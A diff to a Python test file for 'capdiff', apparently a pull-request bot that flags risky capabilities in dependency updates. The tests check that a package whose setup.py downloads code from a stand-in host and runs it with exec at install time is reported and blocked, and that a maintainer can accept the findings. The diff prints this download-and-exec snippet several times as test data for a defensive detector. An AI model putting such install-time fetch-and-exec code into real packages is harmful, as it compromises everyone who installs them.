@@ -215,27 +215,31 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
         "requirements.txt",
         2,
         "failure",
-        "capdiff: pkg 2.0 — install-network, install-script, dynamic-code",
+        "capdiff: pkg 2.0 — install-time-payload, download-exec, install-script, dynamic-code",
     )
     [comment] = real.fake.comments_on(FULL, 7)
     body = str(comment["body"])
     assert body.startswith(
         f"{COMMENT_MARKER}\n### capdiff — 1 blocking in 1 changed dependency\n"
     )
-    # One section for the package, its findings grouped by type, the blocking one first.
+    # One section for the package, its findings grouped by type, the threats first with
+    # their chains whole.
     assert (
-        "<details><summary>⛔ pkg 2.0 — install-network, install-script, dynamic-code"
-        "</summary>\n\n"
-        "⛔ **`install-network`** in `setup.py:3` — Makes an HTTP request with "
-        "urllib.request.urlopen while the package is installed.\n"
+        "<details><summary>⛔ pkg 2.0 — install-time-payload, download-exec, install-script, "
+        "dynamic-code</summary>\n\n"
+        "⛔ **`install-time-payload`** — Makes an HTTP request with urllib.request.urlopen "
+        "while the package is installed. (`setup.py:3`)\n"
         "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
+        "⛔ **`download-exec`** — Downloads `http://203.0.113.7/x` with "
+        "`urllib.request.urlopen` \\(setup.py:3\\) and runs it with `exec` \\(setup.py:4\\).\n"
+        "```python\nexec(code)\n```\n\n"
         "⚠️ **`install-script`** in `setup.py:3` — Calls urllib.request.urlopen.read from code "
         "that runs when the package is installed.\n"
         "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
         "⚠️ **`dynamic-code`** in `setup.py:4` — Runs dynamically built code with exec.\n"
         "```python\nexec(code)\n```\n\n"
-        "Accept (needs write access): "
-        "`@capdiff ignore pkg@2.0 install-network install-script dynamic-code`\n"
+        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-time-payload "
+        "download-exec install-script dynamic-code`\n"
         "</details>\n"
     ) in body
 
@@ -286,7 +290,11 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
     await real.drain()
     fake.set_permission(FULL, "maint", "maintain", "maintain")
-    text = "Reviewed the download, it is our mirror.\n@capdiff ignore pkg@2.0 install-network"
+    # The threats the download-and-exec raises block too: accepting means naming them all.
+    text = (
+        "Reviewed the download, it is our mirror.\n"
+        "@capdiff ignore pkg@2.0 install-time-payload download-exec install-network"
+    )
     cid = fake.add_human_comment(FULL, 7, "maint", text)
     response = await real.post("issue_comment", comment_payload(7, "maint", text, cid))
     assert response.status_code == 202
@@ -299,6 +307,7 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     assert body.startswith(f"{COMMENT_MARKER}\n### capdiff — ")
     assert "blocking" not in body.split("\n")[1]
     assert "install-network" not in body
+    assert "download-exec" not in body
     assert "<details><summary>⚠️ pkg 2.0 — install-script, dynamic-code</summary>" in body
     assert "⚠️ **`dynamic-code`** in `setup.py:4` — " in body
 
